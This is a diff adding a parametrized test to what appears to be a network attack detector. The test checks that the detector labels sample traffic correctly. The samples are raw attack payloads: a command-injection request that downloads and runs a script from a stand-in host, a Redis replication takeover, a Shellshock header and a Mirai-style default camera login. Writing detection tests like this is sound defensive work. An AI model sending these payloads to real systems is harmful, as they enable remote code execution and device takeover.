@@ -151,3 +151,16 @@ def test_a_scan_under_its_own_name_is_not_disguised() -> None:
 
 def test_a_scan_needs_the_scanners_sightings() -> None:
     assert service_scan([Sighting("curl", f"step {number}", 0.9) for number in range(9)]) is None
+
+
+@pytest.mark.parametrize(
+    ("data", "step"),
+    [
+        (b"GET /x?a=;curl+http://192.0.2.7/x;sh HTTP/1.1\r\n\r\n", "exploit: command in a request: download and run"),
+        (b"*3\r\n$9\r\nreplicaof 192.0.2.7", "takeover: replication from the attacker"),
+        (b"GET /cgi-bin/x HTTP/1.1\r\nUser-Agent: (){ :; }; /bin/id\r\n\r\n", "exploit: Shellshock"),
+        (b"USER root\r\nPASS juantech\r\n", "default login of cameras, as in Mirai's list"),
+    ],
+)
+def test_every_form_of_a_pattern_is_tried(data: bytes, step: str) -> None:
+    assert step in [sighting.step for sighting in identify_tools(sent(data))]
